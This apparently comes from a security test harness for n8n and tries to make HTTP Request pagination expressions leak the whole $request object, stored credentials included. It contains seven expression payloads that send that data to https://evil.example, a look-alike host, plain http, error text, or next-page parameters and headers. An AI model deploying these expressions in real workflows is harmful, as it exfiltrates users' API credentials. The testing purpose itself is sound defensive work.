import type { Account } from './accounts.cjs';
import { CONTROL_SECRET, type Arena } from './arena.cjs';
import { counted, EIGHT, proves, watching, type Attack } from './attack.cjs';
import { runFan } from './fan.cjs';
import { textOf } from './internet.cjs';
import { httpRequest } from './request.cjs';
import { secretsOf } from './secrets.cjs';

/** All of the request that n8n lets the expressions of "Pagination" see. */
const ALL = 'encodeURIComponent(JSON.stringify($request))';

/** An attacker's address as the next page, with the request in it. */
const nextUrl = (nextURL: string) => ({
	paginationMode: 'responseContainsNextURL',
	nextURL,
	paginationCompleteWhen: 'other',
	completeExpression: '={{ false }}',
	limitPagesFetched: true,
	maxRequests: 3,
});

/** The request in a parameter of the next page, which an answer or an error would show. */
const parameter = (type: string, value: string) => ({
	...nextUrl(''),
	paginationMode: 'updateAParameterInEachRequest',
	parameters: { parameters: [{ type, name: 'note', value }] },
});

const WAYS: Record<string, object> = {
	'the next URL is foreign': nextUrl(`={{ 'https://evil.example/?all=' + ${ALL} }}`),
	'the next URL is a look-alike': nextUrl(
		`={{ $request.uri.replace(/\\?.*/, '').replace('https://', 'https://x') + '?all=' + ${ALL} }}`,
	),
	'the next URL is plain http': nextUrl(
		`={{ $request.uri.replace(/\\?.*/, '').replace('https:', 'http:') + '?all=' + ${ALL} }}`,
	),
	'the complete expression throws it': {
		...nextUrl('={{ $request.uri }}'),
		completeExpression: `={{ (() => { throw new Error(${ALL}) })() }}`,
	},
	'a node name in an expression': nextUrl(`={{ $(${ALL}).first() }}`),
	'the query of the next page': parameter('qs', `={{ ${ALL} }}`),
	'a header of the next page': parameter('headers', `={{ ${ALL} }}`),
};

async function attack(arena: Arena, account: Account, isControl = false) {
	const { name, stored, baseUrl, sample } = account;
	const credential = isControl ? arena.control : stored;
	const steps = Object.entries(WAYS).map(([way, pagination]) =>
		httpRequest(way, credential, {
			method: isControl ? 'GET' : sample.method,
			options: { pagination: { pagination } },
		}),
	);
	const { result, atAttackers } = await watching(arena, () =>
		runFan(arena.rest, `paging, ${name}`, steps, [{ url: `${baseUrl}${sample.path}` }]),
	);
	return { stored: result.stored, atAttackers };
}

export const paging: Attack = {
	name: 'Paging with an expression that knows $request',
	who: 'U',
	against: EIGHT,
	run: async (arena) => {
		const control = await attack(arena, arena.accounts[0], true);
		proves(
			control.atAttackers.some((visit) => textOf(visit).includes(CONTROL_SECRET)),
			'n8n does not follow to a foreign next page',
		);
		const broken: string[] = [];
		for (const account of arena.accounts) {
			const { stored, atAttackers } = await attack(arena, account);
			broken.push(...atAttackers.map(({ origin }) => `${account.name}: arrived at ${origin}`));
			const secrets = secretsOf(account, arena.internet);
			if (secrets.isIn(stored)) broken.push(`${account.name}: in the execution`);
		}
		return {
			tries: arena.accounts.length * Object.keys(WAYS).length,
			broken: counted(broken),
		};
	},
};
